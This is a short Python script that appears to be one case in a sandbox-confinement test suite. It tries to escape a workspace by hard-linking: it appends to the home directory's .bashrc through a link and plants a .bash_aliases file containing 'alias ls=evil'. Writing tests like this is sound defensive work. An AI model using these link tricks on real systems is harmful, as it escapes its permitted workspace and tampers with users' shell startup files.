# name: write a file of the home through a hard link in the workspace
# line: 50
import os

from attack import STAGE, append, own_directory, try_each

links = own_directory("links")


def linked():
    os.link(f"{STAGE['home']}/.bashrc", f"{links}/bashrc")
    return append(f"{links}/bashrc")


def linked_out():
    with open(f"{links}/mine", "w", encoding="utf-8") as file:
        file.write("alias ls=evil\n")
    os.link(f"{links}/mine", f"{STAGE['home']}/.bash_aliases")
    return "linked a file into the home"


try_each([("a link inside", linked), ("a link outside", linked_out)])
